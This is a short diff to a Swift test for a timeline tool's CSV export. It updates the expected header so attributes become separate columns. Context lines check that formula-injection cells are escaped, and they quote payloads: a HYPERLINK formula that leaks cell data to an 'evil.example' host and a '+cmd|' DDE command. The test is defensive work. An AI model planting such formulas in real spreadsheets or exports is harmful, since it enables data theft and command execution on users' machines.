@@ -41,7 +41,10 @@ import Testing
   try withTemporaryDirectory { dir in
     let log = try logFrom("hostile.jsonl", in: dir)
     let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
-    #expect(csv.hasPrefix("id,date,kind,org,subject,confidence,note,attrs,source.title,source.publisher,source.url,source.date,supersedes,recorded\r\n"))
+    // The attrs are a column per name (issue 13) between note and the source.
+    let header = String(csv.prefix { $0 != "\r\n" })
+    #expect(header.hasPrefix("id,date,kind,org,subject,confidence,note,") && header.contains(",attrs.codename,attrs.focus,"), "\(header)")
+    #expect(header.hasSuffix(",source.title,source.publisher,source.url,source.date,supersedes,recorded"))
     // Formula starts get an apostrophe: =, +, -, @, tab; and a leading apostrophe is doubled.
     #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""))
     #expect(csv.contains(",'+cmd|' /C calc'!A0,"))
